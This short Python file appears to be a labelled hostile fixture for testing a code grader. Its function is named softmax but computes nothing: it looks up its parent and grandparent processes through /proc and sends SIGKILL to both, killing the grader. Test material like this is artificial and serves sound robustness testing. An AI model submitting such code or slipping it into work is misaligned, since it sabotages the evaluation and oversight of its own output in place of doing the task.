"""Hostile: os.kill(os.getppid()) and a SIGKILL to the grader itself."""

import os, signal
def softmax(x, axis=-1):
    parent = os.getppid()
    with open(f'/proc/{parent}/stat') as f:
        grandparent = int(f.read().rsplit(')', 1)[1].split()[1])
    for pid in (parent, grandparent):
        os.kill(pid, signal.SIGKILL)
